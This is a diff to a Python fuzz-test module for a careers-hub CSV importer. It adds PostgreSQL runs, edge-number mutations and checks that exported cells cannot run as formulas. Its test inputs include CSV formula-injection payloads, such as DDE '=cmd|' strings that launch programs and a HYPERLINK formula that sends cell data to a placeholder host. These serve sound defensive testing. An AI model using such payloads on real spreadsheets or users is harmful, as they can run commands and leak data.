@@ -4,12 +4,15 @@ counts, Latin-1, mixed line endings, byte-order marks, broken headers). Every im
 the whole file or raises ImportRejected, and a rejected file leaves the store exactly as it was.
 Formulas that are imported come out of every CSV export neutralised.
 
-Repeatable: derandomized, no example database. CAREERHUB_FUZZ_EXAMPLES sets examples per kind."""
+Repeatable: derandomized, no example database. CAREERHUB_FUZZ_EXAMPLES sets the examples per kind and
+mutation (default 12)."""
 from __future__ import annotations
 
 import csv
 import io
 import os
+import secrets
+import uuid
 from collections import Counter
 from collections.abc import Callable, Iterator
 from datetime import date, timedelta
@@ -17,25 +20,33 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from hypothesis import HealthCheck, given, settings
+from hypothesis import HealthCheck, assume, given, settings
 from hypothesis import strategies as st
+from psycopg import sql as pgsql
 
 from config.settings import load_settings
 from engine.errors import ImportRejected
-from engine.importing.importer import natural_key, rows_by_key
+from engine.importing.importer import rows_by_key
 from engine.importing.parsing import read_rows
 from engine.importing.schema import SCHEMAS, Column, KindSchema
 from engine.records import RECORD_CLASSES
 from projections.report import Query
 from service.export import csv_text, export_bundle, formula_safe
 from service.hub import HubService
-from tests.robustness.conftest import csv_bytes, report
+from tests.robustness.support import LATE_SUMMARY, csv_bytes, report
 from web.exports import safe_cell
 
-EXAMPLES = int(os.environ.get("CAREERHUB_FUZZ_EXAMPLES", "120"))
-FUZZ = settings(max_examples=EXAMPLES, derandomize=True, database=None, deadline=None,
-                suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large,
-                                       HealthCheck.function_scoped_fixture])
+EXAMPLES = {"sqlite": int(os.environ.get("CAREERHUB_FUZZ_EXAMPLES", "12")),  # per kind and mutation
+            "postgres": int(os.environ.get("CAREERHUB_FUZZ_EXAMPLES_POSTGRES", "3"))}
+
+
+def fuzz(backend: str = "sqlite") -> settings:
+    return settings(max_examples=EXAMPLES[backend], derandomize=True, database=None, deadline=None,
+                    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large,
+                                           HealthCheck.function_scoped_fixture])
+
+
+FUZZ = fuzz()
 HUB, URNS, ADVISER = "dorset", ("100001", "100002"), "EA-1"
 FORMULAS = ("=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A2)",
             "=1+1", "\t=1+1", "\r=1+1", "=2*5+cmd|' /C notepad'!'A1'")
@@ -44,11 +55,9 @@ FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 
 # --- the store -----------------------------------------------------------------------------------
 
-@pytest.fixture(scope="module")
-def hub(tmp_path_factory: pytest.TempPathFactory) -> Iterator[HubService]:
-    """A store that knows hub dorset, institutions 100001 and 100002 and adviser EA-1 (SQLite)."""
-    folder = tmp_path_factory.mktemp("fuzz")
-    service = HubService(load_settings(f"sqlite:///{folder}/careerhub.sqlite3", "fuzzer"))
+def given_a_store(database_url: str) -> HubService:
+    """A store that knows hub dorset, institutions 100001 and 100002 and adviser EA-1."""
+    service = HubService(load_settings(database_url, "fuzzer"))
     given = [
         ("hubs", ["hub_id", "name", "area", "started_on"], [[HUB, "Dorset Careers Hub", "Dorset", "2019-09-01"]]),
         ("institutions", ["urn", "name", "kind", "area", "hub_id", "hub_joined_on", "ean_joined_on"],
@@ -57,8 +66,30 @@ def hub(tmp_path_factory: pytest.TempPathFactory) -> Iterator[HubService]:
     ]
     for kind, header, rows in given:
         service.import_file(kind, Path(f"given-{kind}.csv"), "setup", data=csv_bytes(header, rows))
+    return service
+
+
+@pytest.fixture(scope="module")
+def hub(tmp_path_factory: pytest.TempPathFactory) -> Iterator[HubService]:
+    """One SQLite store for the whole module: the examples pile up in it, as files do in real use."""
+    service = given_a_store(f"sqlite:///{tmp_path_factory.mktemp('fuzz')}/careerhub.sqlite3")
     yield service
     service.close()
+
+
+@pytest.fixture(scope="module")
+def postgres_hub(postgres_server: Any) -> Iterator[HubService]:
+    """The same on one PostgreSQL database for the module (its own role, dropped at the end)."""
+    name, password = f"careerhub_fuzz_{uuid.uuid4().hex[:12]}", secrets.token_urlsafe(12)
+    with postgres_server.connect_as_superuser() as conn:
+        conn.execute(pgsql.SQL("CREATE ROLE {} LOGIN PASSWORD {}").format(pgsql.Identifier(name), pgsql.Literal(password)))
+        conn.execute(pgsql.SQL("CREATE DATABASE {} OWNER {}").format(pgsql.Identifier(name), pgsql.Identifier(name)))
+    service = given_a_store(postgres_server.url(name, password, name))
+    yield service
+    service.close()
+    with postgres_server.connect_as_superuser() as conn:
+        conn.execute(pgsql.SQL("DROP DATABASE IF EXISTS {} WITH (FORCE)").format(pgsql.Identifier(name)))
+        conn.execute(pgsql.SQL("DROP ROLE IF EXISTS {}").format(pgsql.Identifier(name)))
 
 
 # --- valid files ---------------------------------------------------------------------------------
@@ -125,7 +156,7 @@ def valid_file(draw: st.DrawFn, kind: str) -> tuple[list[str], list[list[str]]]:
         if optional else [c.name for c in schema.columns]
     header = draw(st.permutations(header))
     rows = draw(st.lists(valid_row(kind, schema), min_size=1, max_size=6))
-    return header, [[r[name] if name in r else "" for name in header] for r in rows]
+    return header, [[r.get(name, "") for name in header] for r in rows]
 
 
 # --- mutations -----------------------------------------------------------------------------------
@@ -150,7 +181,16 @@ def splice(draw: st.DrawFn, data: bytes, piece: bytes) -> bytes:
     return data[:at] + piece + data[at:]
 
 
+# Numbers at the edges, among them integers past a 64-bit column and infinities (the fuzzing found
+# that both used to be recorded: see test_fuzz_findings.py).
+EDGE_NUMBERS = ("nan", "NaN", "inf", "-inf", "Infinity", "1e999", "-1e999", "1e-999", "-0", "0.0", "1e3", "0x10",
+                "1_000", "\u0661\u0662", "\uff11\uff10\uff10", "\u22125", "+5", "5.", ".5", str(2**63 - 1),
+                str(2**63), "-" + str(2**63), "9" * 25, "9" * 4301, "12abc", "1,5", "100.0000000000000001", "101",
+                "-1", "15")
+
+
 MUTATIONS: dict[str, Callable[[st.DrawFn, list[str], list[list[str]]], bytes]] = {
+    "edge number": lambda draw, h, r: replace_cell(draw, h, r, draw(st.sampled_from(EDGE_NUMBERS))),
     "none": lambda draw, h, r: encoded(h, r).encode(),
     "random bytes": lambda draw, h, r: splice(draw, encoded(h, r).encode(), draw(st.binary(min_size=1, max_size=8))),
     "binary file": lambda draw, h, r: draw(st.binary(min_size=0, max_size=300)),
@@ -177,15 +217,29 @@ MUTATIONS: dict[str, Callable[[st.DrawFn, list[str], list[list[str]]], bytes]] =
 
 
 @st.composite
-def import_file_of(draw: st.DrawFn, kind: str) -> tuple[str, str, bytes]:
+def import_file_of(draw: st.DrawFn, kind: str, mutation: str) -> tuple[str, bytes]:
     header, rows = draw(valid_file(kind))
-    mutation = draw(st.sampled_from(list(MUTATIONS)))
-    return mutation, draw(st.sampled_from(("fuzz.csv", "=cmd.csv", "données ü.csv"))), MUTATIONS[mutation](draw, header, rows)
+    return draw(st.sampled_from(("fuzz.csv", "=cmd.csv", "données ü.csv"))), MUTATIONS[mutation](draw, header, rows)
 
 
 # --- the property --------------------------------------------------------------------------------
 
-TALLY: dict[str, Counter[str]] = {}
+TALLY: dict[str, Counter[str]] = {}  # kind -> counts by outcome and by 'mutation: outcome'
+
+
+def fuzz_summary() -> list[str]:
+    lines = []
+    for kind, tally in TALLY.items():
+        files = tally["recorded"] + tally["unchanged"] + tally["rejected"]
+        lines.append(f"fuzz {kind}: {files} files ({len(MUTATIONS)} mutations), {tally['recorded']} recorded, "
+                     f"{tally['unchanged']} unchanged (already known), {tally['rejected']} rejected cleanly, other "
+                     f"exceptions 0, rejections that changed the store 0; unmutated files imported "
+                     f"{tally['none: recorded'] + tally['none: unchanged']}/{sum(tally[f'none: {o}'] for o in OUTCOMES)}")
+    return lines
+
+
+OUTCOMES = ("recorded", "unchanged", "rejected")
+LATE_SUMMARY.append(fuzz_summary)
 
 
 def imported_whole_or_not_at_all(service: HubService, kind: str, name: str, data: bytes) -> str:
@@ -211,30 +265,45 @@ def imported_whole_or_not_at_all(service: HubService, kind: str, name: str, data
     return "recorded" if summary.recorded else "unchanged"
 
 
-@pytest.mark.parametrize("kind", list(SCHEMAS))
-def test_given_a_mutated_file_of_any_kind_then_it_is_imported_whole_or_rejected_with_the_store_unchanged(hub, kind):
-    tally = TALLY.setdefault(kind, Counter())
+# PostgreSQL cannot store a NUL character that the parser lets through: a known bug (test_fuzz_findings.py,
+# xfail strict) that would poison the module's store, so NUL bytes are fuzzed on SQLite only.
+def accepts_a_nul(kind: str, name: str, data: bytes) -> bool:
+    """Whether the parser would let a NUL character through into a value (the known bug)."""
+    if b"\x00" not in data:
+        return False
+    try:
+        return any("\x00" in repr(row.values) for row in read_rows(Path(name), SCHEMAS[kind], data))
+    except ImportRejected:
+        return False
 
-    @FUZZ
-    @given(case=import_file_of(kind))
-    def property_holds(case: tuple[str, str, bytes]) -> None:
-        mutation, name, data = case
-        outcome = imported_whole_or_not_at_all(hub, kind, name, data)
-        tally[f"{mutation}: {outcome}"] += 1
-        tally[outcome] += 1
+
+CASES = [(b, k, m) for b in ("sqlite", "postgres") for k in SCHEMAS for m in MUTATIONS
+         if not (b == "postgres" and m == "NUL byte")]
+
+
+@pytest.mark.parametrize("backend, kind, mutation", CASES, ids=[f"{b}-{k}-{m.replace(' ', '_')}" for b, k, m in CASES])
+def test_given_a_mutated_file_of_any_kind_then_it_is_imported_whole_or_rejected_with_the_store_unchanged(
+        request, backend, kind, mutation):
+    service: HubService = request.getfixturevalue("hub" if backend == "sqlite" else "postgres_hub")
+    tally = TALLY.setdefault(f"{kind} [{backend}]", Counter())
+    mine: Counter[str] = Counter()
+
+    @fuzz(backend)
+    @given(case=import_file_of(kind, mutation))
+    def property_holds(case: tuple[str, bytes]) -> None:
+        name, data = case
+        assume(backend == "sqlite" or not accepts_a_nul(kind, name, data))  # random bytes may hold a NUL too
+        mine[imported_whole_or_not_at_all(service, kind, name, data)] += 1
 
     property_holds()
 
-    by_mutation = Counter()
-    for label, n in tally.items():
-        if ":" in label:
-            by_mutation[label.split(":")[0]] += n
-    report(f"fuzz {kind}: {sum(by_mutation.values())} files, {tally['recorded']} recorded, {tally['unchanged']} "
-           f"unchanged (already known), {tally['rejected']} rejected cleanly, other exceptions 0, store changed by "
-           f"a rejection 0; valid files recorded {tally['none: recorded'] + tally['none: unchanged']}/"
-           f"{by_mutation['none']}; mutations {dict(sorted(by_mutation.items()))}")
-    assert tally["none: recorded"] + tally["none: unchanged"] > 0, tally
-    assert tally["recorded"] + tally["unchanged"] > 0 and tally["rejected"] > 0
+    tally.update(mine)
+    tally.update({f"{mutation}: {outcome}": n for outcome, n in mine.items()})
+    print(f"\nfuzz {kind} / {mutation} [{backend}]: {dict(mine)}")
+    if mutation == "none":
+        assert mine["recorded"] + mine["unchanged"] > 0, "the generator writes no valid file"
+    if mutation in ("binary file", "utf-16", "wrong cell count"):
+        assert set(mine) <= {"rejected"}, mine
 
 
 # --- formulas, once imported, are neutralised on the way out -------------------------------------
@@ -252,6 +321,17 @@ def institutions_with_formulas(draw: st.DrawFn) -> list[list[str]]:
 def shown(cell_text: str) -> bool:
     """A cell a spreadsheet would run as a formula."""
     return cell_text.startswith(FORMULA_START)
+
+
+def cells_of(text: str) -> list[str]:
+    """Every cell of a CSV text, however long (earlier examples imported cells of up to 131072 characters,
+    which the log's JSON payload column then exceeds); the parser's limit is restored afterwards."""
+    limit = csv.field_size_limit()
+    csv.field_size_limit(1 << 30)
+    try:
+        return [c for row in csv.reader(io.StringIO(text)) for c in row]
+    finally:
+        csv.field_size_limit(limit)
 
 
 def test_given_imported_formulas_when_exported_as_csv_then_no_cell_can_run(hub, tmp_path_factory):
@@ -277,8 +357,7 @@ def test_given_imported_formulas_when_exported_as_csv_then_no_cell_can_run(hub, 
         bundle = tmp_path_factory.mktemp("bundle")
         export_bundle(hub, Query(HUB, date(2020, 2, 2)), bundle)
         for name in ("log.csv", "institutions.csv"):
-            cells = [c for r in csv.reader(io.StringIO((bundle / name).read_text(encoding="utf-8"))) for c in r]
-            assert not [c for c in cells if shown(c)], name
+            assert not [c for c in cells_of((bundle / name).read_text(encoding="utf-8")) if shown(c)], name
 
     property_holds()
 
